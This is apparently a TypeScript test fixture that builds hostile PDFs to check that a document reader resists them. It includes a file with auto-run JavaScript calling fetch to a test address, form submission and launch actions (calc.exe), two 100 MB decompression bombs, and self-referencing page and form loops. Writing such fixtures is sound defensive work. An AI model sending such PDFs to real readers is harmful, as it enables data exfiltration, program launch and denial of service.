import { strFromU8, zlibSync } from 'fflate'
import { column, makePdf, pagesPdf } from '../make-pdf'
import { type HostileFile, many, words } from './hostile-file'

/** PDF files. */
export function hostilePdfs(address: string): readonly HostileFile[] {
  const text = column([words], 72, 760)
  const actions =
    `/OpenAction << /S /JavaScript /JS (globalThis.harmed = fetch("${address}/pdf")) >>` +
    ` /AcroForm << /Fields [] /XFA (<xdp><submit target="${address}/xfa"/></xdp>) >>` +
    ` /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (harmed\\(\\)) >>] >> >>` +
    ` /AA << /WC << /S /Launch /F (calc.exe) >> /WS << /S /URI /URI (${address}/uri) >> >>`
  const form =
    `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (stolen) /Rect [72 500 200 520]` +
    ` /A << /S /SubmitForm /F (${address}/submit) >> >>` +
    ` << /Type /Annot /Subtype /Link /Rect [72 400 200 420] /A << /S /GoToR /F (${address}/other.pdf) >> >>]`
  return [
    { what: 'a PDF with a password', name: 'locked.pdf', bytes: lockedPdf, comes: 'encrypted' },
    { what: 'a PDF of scanned pages', name: 'scanned.pdf', bytes: () => pagesPdf([[], []]), comes: 'no-text-layer' },
    {
      what: 'a PDF with scripts, forms and actions',
      name: 'scripts.pdf',
      bytes: () => pagesPdf([text], actions, form),
      comes: 'text',
      has: words,
      lacks: 'stolen',
    },
    {
      what: 'a PDF of more pages than are read',
      name: 'pages.pdf',
      bytes: () => pagesPdf(Array.from({ length: 2001 }, () => [])),
      comes: 'too-many-pages',
    },
    { what: 'a PDF whose pages hold each other', name: 'loop.pdf', bytes: loopPdf, comes: 'unreadable' },
    { what: 'a PDF with a form that holds itself', name: 'form.pdf', bytes: formPdf, comes: 'no-text-layer' },
    {
      what: 'a PDF whose page becomes 100 MB',
      name: 'bomb.pdf',
      bytes: () => packedPdf(new Uint8Array(100_000_000).fill(0x20), 1),
      comes: 'no-text-layer',
    },
    {
      what: 'a PDF whose page is packed twice and becomes 100 MB',
      name: 'twice.pdf',
      bytes: () => packedPdf(new Uint8Array(100_000_000).fill(0x20), 2),
      comes: 'no-text-layer',
    },
    {
      what: 'a PDF with arrays nested deep',
      name: 'arrays.pdf',
      bytes: () => makePdf(['<< /Type /Catalog /Pages 2 0 R >>', many(100_000, '[')]),
      comes: 'unreadable',
    },
  ]
}

/** A password that nobody knows: the standard handler with keys that fit none. */
export function lockedPdf(): Uint8Array {
  const key = '0'.repeat(64)
  const handler = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${key}> /U <${key}> >> /ID [<00> <00>]`
  return makePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>'], handler)
}

export function loopPdf(): Uint8Array {
  return makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>',
    '<< /Type /Pages /Count 2 /Parent 2 0 R /Kids [2 0 R 3 0 R] >>',
  ])
}

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R'

export function formPdf(): Uint8Array {
  return makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `${page} /Resources << /XObject << /X 5 0 R >> >> >>`,
    { dictionary: '', stream: '/X Do' },
    {
      dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
      stream: '/X Do',
    },
  ])
}

/** A PDF whose states are nested so deep that each is found in more time than the one before: it is never read to its end. */
export function endlessPdf(): Uint8Array {
  return packedPdf(
    Uint8Array.from(many(500_000, 'q '), letter => letter.charCodeAt(0)),
    1,
  )
}

/** One page whose content is deflated so often. */
function packedPdf(content: Uint8Array, times: number): Uint8Array {
  let packed = content
  for (let n = 0; n < times; n += 1) packed = zlibSync(packed)
  return makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `${page} /Resources << >> >>`,
    { dictionary: `/Filter [${many(times, '/FlateDecode ')}]`, stream: strFromU8(packed, true) },
  ])
}
